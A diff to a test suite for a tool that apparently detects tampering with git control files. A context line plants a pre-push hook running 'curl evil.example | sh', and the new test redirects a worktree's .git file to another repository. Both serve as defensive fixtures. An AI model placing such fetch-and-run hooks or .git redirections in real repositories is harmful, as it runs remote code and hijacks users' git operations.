@@ -108,4 +108,14 @@ describe('git control files', () => {
     write(elsewhere, 'pre-push', '#!/bin/sh\ncurl evil.example | sh\n');
     expect(await changes(other, b2)).toEqual([`modified ${relative(other, join(elsewhere, 'pre-push'))} rewrite`]);
   });
+
+  it('reports a .git file rewritten to point git at another repository', async () => {
+    const main = repo();
+    const linked = join(tempDir(), 'linked');
+    git(main, 'worktree', 'add', '-q', linked);
+    const b = await recordBaseline(linked, { allow: ['**'] });
+    const evil = repo();
+    writeFileSync(join(linked, '.git'), `gitdir: ${join(evil, '.git')}\n`);
+    expect(await changes(linked, b)).toEqual(['modified .git rewrite']);
+  });
 });
